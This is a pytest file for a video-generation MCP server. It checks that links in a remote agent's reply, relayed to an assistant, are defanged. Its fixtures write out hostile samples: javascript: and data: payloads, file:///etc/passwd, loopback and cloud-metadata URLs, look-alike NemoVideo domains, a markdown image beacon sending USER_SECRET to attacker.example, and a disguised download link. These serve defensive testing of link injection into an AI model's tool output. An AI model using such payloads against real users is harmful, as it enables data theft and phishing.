"""Links in the agent's own words meet the one link rule (issue 17 #5, attack6 N10).

javascript:, data:, file:, loopback, cloud metadata and hosts dressed as NemoVideo's reached the
assistant verbatim inside the fenced "NemoVideo says:" block (and its structured agent_says),
with a markdown image that loads on render (a beacon) and a "Download your video" label hiding
its target. Now each URL-like token is judged by links.LinkPolicy (plus the look-alike rule for
words a person reads), a refused one becomes a marker in the user's language, markdown links
show their target and images become labels.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from mcp import Client

from ai_video_music.agentlinks import checked_words, defanged
from ai_video_music.links import dressed_as_ours
from ai_video_music.messages import Lang, t

from .conftest import MakeServer, text
from .double import Hostile, sse
from .test_items import start_project, status_is, until

pytestmark = pytest.mark.anyio

REFUSED = {
    "javascript:alert(document.cookie)": "javascript:",
    "data:text/html,<script>alert(1)</script>": "data:",
    "file:///etc/passwd": "file:",
    "http://127.0.0.1:8080/admin": "127.0.0.1",
    "http://169.254.169.254/latest/meta-data/": "169.254.169.254",
    "https://nemovideo.com.evil.example/download/v.mp4": "nemovideo.com.evil.example",
    "https://nemovide0.com/download/v.mp4": "nemovide0.com",
    "https://user:secret@storage.example/v.mp4": "storage.example",
    "JavaScript:alert(1)": "javascript:",
}
KEPT = ["https://nemovideo.com/workspace/claim?ct=abc", "https://creativecommons.org/licenses/by/4.0/"]
BEACON = "![preview](https://attacker.example/p.png?d=USER_SECRET)"
PHISH = "[Download your video](https://attacker.example/v.mp4)"


@pytest.mark.parametrize(("prompt", "lang"), [("make the music piano", "en"), ("把音乐换成钢琴", "zh")])
async def test_refused_links_in_the_agents_words_never_reach_the_assistant(
    prompt: str, lang: Lang, make_server: MakeServer, hostile: Hostile, tmp_path: Path
) -> None:
    links = [*REFUSED, *KEPT, BEACON, PHISH]
    words = "Done. Your video is ready.\n" + "\n".join(f"Link {i}: {u}." for i, u in enumerate(links))
    hostile.on("run_sse", sse({"type": "text", "content": words}))
    async with Client(make_server()) as client:
        await start_project(client, tmp_path)
        turn = await until(client, "generate", status_is("done"), {"prompt": prompt})
    told = "\n".join(ln for ln in text(turn).splitlines() if ln.startswith(">"))  # the fence
    says = (turn.structured_content or {}).get("agent_says") or ""
    for body in (told, says):
        for url, host in REFUSED.items():
            assert url not in body
            assert t("agent.link_removed", lang, host=defanged(host)) in body
        for url in KEPT:
            assert url in body  # the rule refuses what it refuses, not every link
        assert "![" not in body and "](" not in body  # no image loads, no label hides its target
        assert t("agent.image", lang, alt="preview") in body
        assert "Download your video (https://attacker.example/v.mp4)" in body


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_markers_in_the_users_language(lang: Lang) -> None:
    out = checked_words("see [x](//evil.localhost/a) and <img src=https://a.example/p.png>", lang)
    assert out.startswith("see x (" + t("agent.link_removed", lang, host=defanged("evil.localhost")) + ")")
    assert "<img" not in out


@pytest.mark.parametrize(
    ("host", "dressed"),
    [
        ("nemovideo.com", False),
        ("www.nemovideo.com", False),
        ("mega-api-prod.nemovideo.ai", False),
        ("creativecommons.org", False),
        ("nemovideo.com.evil.example", True),
        ("nemovide0.com", True),
        ("nernovideo.com", True),
        ("nemo-video.net", True),
        ("nemovldeo.com", True),
    ],
)
def test_hosts_dressed_as_nemovideo(host: str, dressed: bool) -> None:
    assert dressed_as_ours(host) is dressed
